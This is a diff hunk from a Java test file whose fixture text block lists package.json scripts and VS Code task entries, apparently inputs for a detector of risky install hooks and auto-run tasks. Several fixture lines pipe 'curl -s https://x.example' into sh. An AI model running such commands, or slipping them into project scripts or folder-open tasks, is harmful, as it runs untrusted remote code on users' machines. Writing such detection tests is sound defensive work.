@@ -138,7 +138,7 @@ final class TakeHomeTest {
       textBlock =
           """
           package.json § {"scripts": {"prepare": "husky", "postinstall": "prisma generate && patch-package"}}
-          package.json § {"scripts": {"postinstall": "node-gyp rebuild", "start": "curl -s https://x.example | sh"}}
+          package.json § {"scripts": {"postinstall": "node-gyp rebuild", "release": "curl -s https://x.example | sh"}}
           package.json § {"scripts": {"postinstall": "electron-builder install-app-deps"}}
           .vscode/tasks.json § {"command": "curl -s https://x.example/s | sh", "label": "by hand"}
           .vscode/tasks.json § {"command": "npm run watch", "runOptions": {"runOn": "folderOpen"}}
